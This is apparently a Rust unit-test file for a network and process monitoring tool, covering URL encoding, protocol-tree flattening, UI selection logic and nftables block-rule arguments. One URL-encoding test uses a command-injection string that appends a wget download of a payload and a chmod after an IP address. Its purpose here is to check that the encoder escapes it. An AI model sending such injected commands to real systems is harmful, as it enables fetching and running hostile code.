use devo_core::firewall::Firewall;
use devo_core::panel::{
    cycle_sort, next_index, prev_index, reselect, switch_tab, tree_next_index, tree_prev_index,
    ActiveTab, ProcessSort,
};
use devo_core::ptree::{build_flat_list, simple_node, ProtocolNode};
use devo_core::text::{str_eq, url_encode};

#[test]
fn url_encoding_matches_plain_replacement() {
    let raw = "127.0.0.1; wget http://host/payload && chmod +x /tmp/p";
    let expect = raw
        .replace(" ", "%20")
        .replace(";", "%3B")
        .replace("/", "%2F")
        .replace("&", "%26");
    assert_eq!(url_encode(raw), expect);
    assert_eq!(url_encode("a b;c/d&e"), "a%20b%3Bc%2Fd%26e");
    assert_eq!(url_encode(""), "");
    assert_eq!(url_encode("plain"), "plain");
}

#[test]
fn string_equality_is_by_characters() {
    assert!(str_eq("abc", "abc"));
    assert!(!str_eq("abc", "abd"));
    assert!(!str_eq("abc", "ab"));
    assert!(str_eq("", ""));
}

#[test]
fn simple_node_is_a_bare_leaf() {
    let n = simple_node(String::from("ttl: 64"));
    assert_eq!(n.label, "ttl: 64");
    assert!(n.children.is_empty());
    assert!(n.layer_type.is_empty());
}

fn header(label: &str, layer: &str, children: Vec<ProtocolNode>) -> ProtocolNode {
    ProtocolNode {
        label: String::from(label),
        children,
        layer_type: String::from(layer),
    }
}

#[test]
fn flat_list_marks_and_expands_headers() {
    let tree = vec![
        header(
            "Transmission Control Protocol",
            "tcp",
            vec![simple_node(String::from("srcport: 443"))],
        ),
        header(
            "User Datagram Protocol",
            "udp",
            vec![simple_node(String::from("dstport: 53"))],
        ),
    ];
    let expanded = vec![String::from("tcp")];
    let mut out: Vec<(usize, String, bool)> = Vec::new();
    build_flat_list(&tree, 0, &expanded, &mut out);
    assert_eq!(
        out,
        vec![
            (0, String::from("[-] Transmission Control Protocol"), true),
            (1, String::from("srcport: 443"), false),
            (0, String::from("[+] User Datagram Protocol"), true),
        ]
    );
}

#[test]
fn flat_list_descends_through_plain_nodes() {
    let inner = ProtocolNode {
        label: String::from("flags"),
        children: vec![simple_node(String::from("syn: 1"))],
        layer_type: String::new(),
    };
    let tree = vec![header("Frame", "frame", vec![inner])];
    let expanded = vec![String::from("frame")];
    let mut out: Vec<(usize, String, bool)> = Vec::new();
    build_flat_list(&tree, 0, &expanded, &mut out);
    assert_eq!(
        out,
        vec![
            (0, String::from("[-] Frame"), true),
            (1, String::from("flags"), false),
            (2, String::from("syn: 1"), false),
        ]
    );
}

#[test]
fn tab_toggles_and_sort_cycles() {
    assert_eq!(switch_tab(ActiveTab::Packets), ActiveTab::Processes);
    assert_eq!(switch_tab(ActiveTab::Processes), ActiveTab::Packets);
    assert_eq!(cycle_sort(ProcessSort::Cpu), ProcessSort::Mem);
    assert_eq!(cycle_sort(ProcessSort::Mem), ProcessSort::Pid);
    assert_eq!(cycle_sort(ProcessSort::Pid), ProcessSort::Cpu);
}

#[test]
fn selection_clamps_at_both_ends() {
    assert_eq!(next_index(None, 5), 0);
    assert_eq!(next_index(Some(0), 5), 1);
    assert_eq!(next_index(Some(4), 5), 4);
    assert_eq!(next_index(Some(0), 0), 0);
    assert_eq!(prev_index(None), 0);
    assert_eq!(prev_index(Some(0)), 0);
    assert_eq!(prev_index(Some(3)), 2);
}

#[test]
fn empty_tree_keeps_its_selection() {
    assert_eq!(tree_next_index(None, 0), None);
    assert_eq!(tree_next_index(Some(2), 0), Some(2));
    assert_eq!(tree_next_index(Some(1), 3), Some(2));
    assert_eq!(tree_prev_index(None, 0), None);
    assert_eq!(tree_prev_index(Some(1), 3), Some(0));
}

#[test]
fn refresh_keeps_the_selected_process() {
    // the selected pid moved from row 2 to row 0
    assert_eq!(reselect(Some(77), Some(2), &vec![77, 5, 9]), Some(0));
    // the selected pid is gone: fall back to the first row
    assert_eq!(reselect(Some(77), Some(2), &vec![5, 9]), Some(0));
    // the list emptied out
    assert_eq!(reselect(Some(77), Some(2), &vec![]), None);
    // nothing was selected: a non-empty list selects its first row
    assert_eq!(reselect(None, None, &vec![5, 9]), Some(0));
    // an existing row selection without a resolved pid is kept
    assert_eq!(reselect(None, Some(1), &vec![5, 9]), Some(1));
    assert_eq!(reselect(None, None, &vec![]), None);
    // the first matching row wins
    assert_eq!(reselect(Some(9), None, &vec![5, 9, 9]), Some(1));
}

#[test]
fn firewall_rules_are_exact() {
    let args = Firewall::block_ip_args("10.1.2.3");
    let want = ["add", "rule", "inet", "filter", "input", "ip", "saddr", "10.1.2.3", "drop"];
    assert_eq!(args.len(), want.len());
    for (a, w) in args.iter().zip(want.iter()) {
        assert_eq!(a, w);
    }
    let args = Firewall::block_port_args("8080");
    let want = ["add", "rule", "inet", "filter", "input", "tcp", "dport", "8080", "drop"];
    for (a, w) in args.iter().zip(want.iter()) {
        assert_eq!(a, w);
    }
}
